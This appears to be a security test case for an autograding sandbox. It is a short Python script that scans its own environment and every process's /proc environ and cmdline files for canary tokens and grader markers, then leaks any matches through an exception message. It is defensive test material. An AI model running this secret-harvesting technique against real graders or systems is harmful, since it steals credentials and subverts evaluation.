# goal: secrets of the grader: tokens in its environment
# technique: reads its own environment, that of its ancestors, and /proc/*/environ and cmdline
# lab: m01_mini
# base: wrong
# expect: graded, student code raised
# needs: sandbox
# %%
import glob
import os

found = [text for text in map(str, os.environ.items()) if "CANARY" in text or "canary-" in text]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if b"canary-" in data or b"GRADER" in data or b"pytest" in data:
        found.append(data.decode(errors="replace"))
if found:
    raise ValueError(f"RECORDED {found}")
